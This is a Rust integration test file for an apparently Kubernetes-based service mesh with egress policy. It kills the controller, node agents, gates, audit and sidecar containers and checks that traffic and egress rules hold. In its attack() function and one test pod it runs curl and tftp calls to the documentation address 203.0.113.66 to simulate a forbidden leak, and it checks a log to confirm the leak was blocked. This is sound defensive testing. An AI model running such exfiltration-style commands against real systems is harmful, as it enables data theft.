//! Each part is killed in turn: what was running keeps running; new pods wait or start, and none
//! starts without its rules.

use std::{fs, time::Duration};

use anyhow::{Context as _, Result, ensure};
use k8s_openapi::api::core::v1::{ContainerStatus, Pod};
use serde_json::json;
use turnpike_cluster::{
    Cluster, chart,
    kubectl::{Kubectl, name_of},
    workloads,
};

use crate::{
    egress::{PAYMENTS, egress_log, policy},
    load::Load,
    stage::{EFFECT, SOON, curl, passes, passes_soon, refused, soon},
    windows::{eager, reached},
};

const NODES: [&str; 2] = ["node-a", "node-b"];
const NAMESPACE: &str = "kills";
const PLAIN: &str = "kills-plain";

/// nginx on both nodes, clients on both, and a pod that an egress policy selects.
fn cast(cluster: &Cluster) -> Result<()> {
    let mut objects = vec![
        workloads::namespace(NAMESPACE, true),
        workloads::namespace(PLAIN, false),
        policy(PLAIN),
    ];
    objects.extend(workloads::web_on_each(&NODES, NAMESPACE, "web"));
    objects.extend(workloads::client(NAMESPACE, "client", "client", "node-b"));
    objects.extend(workloads::client(PLAIN, "payer", "payer", "node-b"));
    let kubectl = &cluster.kubectl;
    kubectl.apply(&workloads::list(&objects))?;
    web_rolled_out(kubectl)?;
    kubectl.wait(NAMESPACE, "pod/client", "condition=Ready", SOON)?;
    kubectl.wait(PLAIN, "pod/payer", "condition=Ready", SOON)?;
    passes_soon(kubectl, NAMESPACE, "client", "http://web/")?;
    passes_soon(kubectl, PLAIN, "payer", PAYMENTS)
}

fn web_rolled_out(kubectl: &Kubectl) -> Result<()> {
    NODES.iter().try_for_each(|node| {
        kubectl.rolled_out(
            NAMESPACE,
            &format!("deploy/web-{node}"),
            Duration::from_secs(120),
        )
    })
}

/// A pod of the control plane or of a node, and where it runs.
pub(crate) fn ours(
    cluster: &Cluster,
    component: &str,
    node: Option<&str>,
) -> Result<(String, String)> {
    let selector = format!("app.kubernetes.io/component={component}");
    let pods = cluster.kubectl.list::<Pod>(chart::NAMESPACE, &selector)?;
    let place = |pod: &Pod| {
        pod.spec
            .as_ref()
            .and_then(|spec| spec.node_name.clone())
            .unwrap_or_default()
    };
    let pod = pods
        .iter()
        .find(|pod| node.is_none_or(|node| place(pod) == node));
    let pod = pod.with_context(|| format!("a pod of {component}"))?;
    Ok((name_of(pod), place(pod)))
}

/// Waits until there is the new controller alone. Rolled out is not gone: while the old one drains, it may
/// still answer for a pod.
pub(crate) fn controller_replaced(kubectl: &Kubectl) -> Result<()> {
    kubectl.rolled_out(chart::NAMESPACE, "deploy/turnpike-controller", SOON)?;
    soon(SOON, "the old controller is gone", || {
        let component = "app.kubernetes.io/component=controller";
        Ok(kubectl.list::<Pod>(chart::NAMESPACE, component)?.len() == 1)
    })
}

/// Kills the first process of one of our containers.
fn kill(cluster: &Cluster, component: &str, node: Option<&str>) -> Result<()> {
    let (pod, place) = ours(cluster, component, node)?;
    cluster
        .node(&place)?
        .kill_container(chart::NAMESPACE, &pod, component)
}

/// Whether anything of a pod that must not leave has left. Nothing else in these tests tries to by
/// this address.
fn nothing_leaked(cluster: &Cluster) -> Result<()> {
    let log = fs::read_to_string(&cluster.ready.internet_log)?;
    let mark = hex::encode("kills-leak");
    ensure!(
        !log.lines().any(|line| line.contains(&mark)),
        "something left that was not allowed"
    );
    Ok(())
}

fn attack(cluster: &Cluster) -> Result<()> {
    let line = "curl -s --max-time 1 http://203.0.113.66/kills-leak; \
        curl -s --max-time 1 tftp://203.0.113.66:4443/kills-leak; true";
    let attempt = cluster
        .kubectl
        .exec(PLAIN, "payer/curl", &["sh", "-c", line])?;
    ensure!(attempt.ok, "it was not tried: {}", attempt.all());
    Ok(())
}

pub(crate) fn the_controller(cluster: &mut Cluster) -> Result<()> {
    cast(cluster)?;
    let kubectl = &cluster.kubectl;
    let load = Load::start(kubectl, NAMESPACE, "client", "http://web/")?;
    kill(cluster, "controller", None)?;
    // And away for longer than a restart takes.
    kubectl.ok(&[
        "-n",
        chart::NAMESPACE,
        "scale",
        "deploy/turnpike-controller",
        "--replicas=0",
    ])?;
    soon(SOON, "the controller is gone", || {
        let component = "app.kubernetes.io/component=controller";
        Ok(kubectl.list::<Pod>(chart::NAMESPACE, component)?.is_empty())
    })?;
    let refused = kubectl.try_apply(&workloads::list(&workloads::client(
        NAMESPACE, "fresh", "client", "node-b",
    )))?;
    ensure!(
        !refused.ok && refused.err.contains("injector.turnpike.dev"),
        "a pod was made without its sidecar: {}",
        refused.all()
    );
    ensure!(
        passes(kubectl, NAMESPACE, "client", &["http://web/"])?,
        "the mesh serves without its controller"
    );
    attack(cluster)?;
    ensure!(
        passes(kubectl, PLAIN, "payer", &[PAYMENTS])?,
        "egress goes on without the controller"
    );
    kubectl.ok(&[
        "-n",
        chart::NAMESPACE,
        "scale",
        "deploy/turnpike-controller",
        "--replicas=1",
    ])?;
    kubectl.rolled_out(chart::NAMESPACE, "deploy/turnpike-controller", SOON)?;
    soon(SOON, "pods are made again", || {
        Ok(kubectl
            .try_apply(&workloads::list(&workloads::client(
                NAMESPACE, "fresh", "client", "node-b",
            )))?
            .ok)
    })?;
    kubectl.wait(NAMESPACE, "pod/fresh", "condition=Ready", SOON)?;
    passes_soon(kubectl, NAMESPACE, "fresh", "http://web/")?;
    load.stop_unharmed()?;
    nothing_leaked(cluster)
}

pub(crate) fn agents(cluster: &mut Cluster) -> Result<()> {
    cast(cluster)?;
    let kubectl = &cluster.kubectl;
    let load = Load::start(kubectl, NAMESPACE, "client", "http://web/")?;
    let before = kubectl.json(NAMESPACE, &["pod", "client"])?["status"]["podIP"].clone();
    for node in NODES {
        kill(cluster, "node", Some(node))?;
    }
    attack(cluster)?;
    // Made while the agents are away: it waits, and has its rules when it starts.
    let mut late = workloads::client(PLAIN, "late", "payer", "node-b");
    if let Some(pod) = late.last_mut() {
        pod["spec"]["containers"] = json!([workloads::caller(&[
            "sh",
            "-c",
            "for i in $(seq 20); do curl -s -o /dev/null --max-time 0.3 http://203.0.113.66/kills-leak; done; sleep infinity",
        ])]);
    }
    kubectl.apply(&workloads::list(&late))?;
    kubectl.wait(PLAIN, "pod/late", "condition=Ready", SOON)?;
    std::thread::sleep(Duration::from_secs(3));
    passes_soon(kubectl, PLAIN, "late", PAYMENTS)?;
    kubectl.rolled_out(chart::NAMESPACE, "ds/turnpike-node", SOON)?;
    load.stop_unharmed()?;
    let after = kubectl.json(NAMESPACE, &["pod", "client"])?["status"]["podIP"].clone();
    ensure!(before == after, "the pod's address changed");
    nothing_leaked(cluster)?;
    kubectl.ok(&["-n", PLAIN, "delete", "pod", "late"])?;
    Ok(())
}

pub(crate) fn gates(cluster: &mut Cluster) -> Result<()> {
    cast(cluster)?;
    let kubectl = &cluster.kubectl;
    let load = Load::start(kubectl, NAMESPACE, "client", "http://web/")?;
    kill(cluster, "gate", Some("node-b"))?;
    // No gate, no door; but the door comes back by itself.
    for _ in 0..4 {
        attack(cluster)?;
    }
    soon(SOON, "the allowed name passes again", || {
        passes(kubectl, PLAIN, "payer", &[PAYMENTS])
    })?;
    load.stop_unharmed()?;
    nothing_leaked(cluster)
}

pub(crate) fn audit(cluster: &mut Cluster) -> Result<()> {
    cast(cluster)?;
    let kubectl = &cluster.kubectl;
    let before = allowed_on_record(kubectl)?;
    // Away from before the call on: it stands still, and then dies with what it had not written.
    let (pod, place) = ours(cluster, "audit", None)?;
    let node = cluster.node(&place)?;
    let paused = node.pause_container(chart::NAMESPACE, &pod, "audit")?;
    let said = curl(kubectl, PLAIN, "payer", &[PAYMENTS])?;
    ensure!(
        said.out == "200",
        "egress waits for nobody far away: {}",
        said.all()
    );
    node.kill_container(chart::NAMESPACE, &pod, "audit")?;
    drop(paused);
    kubectl.rolled_out(chart::NAMESPACE, "sts/turnpike-audit", SOON)?;
    soon(SOON, "what left meanwhile is on record", || {
        Ok(allowed_on_record(kubectl)? > before)
    })
}

/// How many of the payer's connections are on record as allowed.
fn allowed_on_record(kubectl: &Kubectl) -> Result<usize> {
    let log = egress_log(kubectl, &["--namespace", PLAIN, "--pod", "payer"])?;
    ensure!(log.ok, "turnpike egress log: {}", log.all());
    let lines = log.out.lines();
    let payments = lines.filter(|line| line.contains("api.payments.example"));
    Ok(payments.filter(|line| line.contains("\"allowed\"")).count())
}

pub(crate) fn a_sidecar(cluster: &mut Cluster) -> Result<()> {
    cast(cluster)?;
    let kubectl = &cluster.kubectl;
    let before = restarts(kubectl)?;
    cluster
        .node("node-b")?
        .kill_container(NAMESPACE, "client", "turnpike-proxy")?;
    // While it is away nothing goes around it, in plaintext, to a peer that would take it.
    soon(SOON, "calls pass again", || {
        passes(kubectl, NAMESPACE, "client", &["http://web/"])
    })?;
    let [sidecar, application] = before;
    soon(EFFECT, "kubelet says that it started it again", || {
        Ok(restarts(kubectl)?[0] > sidecar)
    })?;
    ensure!(
        restarts(kubectl)?[1] == application,
        "the application was restarted too"
    );
    Ok(())
}

/// How often the client's sidecar and its application were started again.
fn restarts(kubectl: &Kubectl) -> Result<[i32; 2]> {
    let pod: Pod = kubectl.get(NAMESPACE, "client")?;
    let status = pod.status.unwrap_or_default();
    let sum = |statuses: Option<Vec<ContainerStatus>>| {
        let statuses = statuses.unwrap_or_default();
        statuses.iter().map(|status| status.restart_count).sum()
    };
    Ok([
        sum(status.init_container_statuses),
        sum(status.container_statuses),
    ])
}

pub(crate) fn a_node(cluster: &mut Cluster) -> Result<()> {
    cast(cluster)?;
    let told = power_cut(cluster);
    if !cluster.node_mut("node-a")?.is_running() {
        cluster.node_mut("node-a")?.boot()?;
    }
    told
}

fn power_cut(cluster: &mut Cluster) -> Result<()> {
    let kubectl = cluster.kubectl.clone();
    // At its boot they do again what they do first.
    let mut objects = eager(PLAIN, "boot", "payer");
    objects.extend(eager(PLAIN, "boot-free", "free"));
    kubectl.apply(&workloads::list(&objects))?;
    kubectl.wait(PLAIN, "pod/boot", "condition=Ready", SOON)?;
    soon(SOON, "the free pod gets out", || {
        Ok(!reached(cluster, PLAIN, "boot-free")?.contains(&0))
    })?;
    cluster.node_mut("node-a")?.kill()?;
    let before = reached(cluster, PLAIN, "boot-free")?;
    // The other half serves. Half of the cluster's DNS is gone too, until that is noticed.
    let noticed = Duration::from_secs(60);
    soon(noticed, "the other node's pods serve", || {
        let said = kubectl.exec(
            NAMESPACE,
            "client/curl",
            &[
                "curl",
                "-s",
                "-o",
                "/dev/null",
                "-w",
                "%{http_code}\n",
                "--max-time",
                "20",
                "http://web/?[1-20]",
            ],
        )?;
        Ok(said.out.lines().filter(|line| *line == "200").count() == 20)
    })?;
    soon(
        Duration::from_secs(60),
        "the node is said to be gone",
        || {
            let listed = kubectl.ok(&["get", "node", "node-a", "--no-headers"])?;
            Ok(listed.contains("NotReady"))
        },
    )?;
    cluster.node_mut("node-a")?.boot()?;
    kubectl.wait(
        "default",
        "node/node-a",
        "condition=Ready",
        Duration::from_secs(120),
    )?;
    cluster.rolled_out()?;
    web_rolled_out(&kubectl)?;
    soon(SOON, "every web pod is ready again", || {
        let pods = kubectl.list::<Pod>(NAMESPACE, "app=web")?;
        let ready = |pod: &Pod| {
            let conditions = pod
                .status
                .as_ref()
                .and_then(|status| status.conditions.clone())
                .unwrap_or_default();
            conditions
                .iter()
                .any(|c| c.type_ == "Ready" && c.status == "True")
        };
        Ok(pods.len() >= 2 && pods.iter().all(ready))
    })?;
    passes_soon(&kubectl, NAMESPACE, "client", "http://web/")?;
    // A pod that is made on the node that came back has its address and its rules.
    kubectl.apply(&workloads::list(&workloads::client(
        PLAIN, "again", "payer", "node-a",
    )))?;
    kubectl.wait(PLAIN, "pod/again", "condition=Ready", SOON)?;
    passes_soon(&kubectl, PLAIN, "again", PAYMENTS)?;
    refused(&kubectl, PLAIN, "again", &["https://203.0.113.66/"])
        .context("a pod of the node that came back")?;
    soon(SOON, "the free pod of before gets out again", || {
        let now = reached(cluster, PLAIN, "boot-free")?;
        Ok(now.iter().zip(before).all(|(now, before)| *now > before))
    })?;
    ensure!(
        reached(cluster, PLAIN, "boot")? == [0, 0],
        "a pod of before the power cut was without its rules"
    );
    cluster.prove_isolation()
}
